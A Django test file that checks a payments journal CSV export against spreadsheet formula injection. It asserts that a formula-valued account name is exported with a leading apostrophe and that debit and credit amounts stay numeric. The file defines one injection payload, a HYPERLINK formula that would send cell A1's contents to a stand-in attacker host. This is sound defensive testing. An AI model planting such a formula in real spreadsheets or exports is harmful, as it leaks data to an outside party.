"""The journal CSV a manager downloads: a name typed in the console never runs as a formula, amounts stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from orders.payments import accounting
from orders.payments.models import AccountRole, ExportBatch, JournalEntry

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cash")'


def test_an_account_name_that_is_a_formula_is_exported_as_text_and_amounts_stay_numbers(admin_client):
    accounting.post_entry(
        kind=JournalEntry.Kind.SETTLEMENT,
        currency="USD",
        memo="-1 adjustment @ year end",
        legs=[(AccountRole.CASH, Decimal("12.00")), (AccountRole.RECEIVABLES, Decimal("-12.00"))],
    )
    cash = accounting.account_for(AccountRole.CASH)
    change = admin_client.post(
        reverse("admin:payments_account_change", args=[cash.pk]),
        {"code": cash.code, "name": FORMULA, "type": cash.type, "is_active": "on"},
    )
    assert change.status_code == 302

    accounting.export_journal(export_date=timezone.localdate())

    batch = ExportBatch.objects.get()
    download = admin_client.get(reverse("admin:payments_exportbatch_csv", args=[batch.pk]))
    rows = list(csv.DictReader(io.StringIO(download.content.decode())))
    by_account = {row["account_code"]: row for row in rows}
    cash_row = by_account[cash.code]
    assert cash_row["account_name"] == "'" + FORMULA  # shown as text by a spreadsheet, never run
    assert (cash_row["debit"], cash_row["credit"]) == ("12.00", "0.00")
    assert cash_row["memo"] == "'-1 adjustment @ year end"
    assert all(row["date"] == timezone.localdate().isoformat() for row in rows)
    assert Path(batch.file_path).read_bytes() == download.content  # the file sent on is the one downloaded
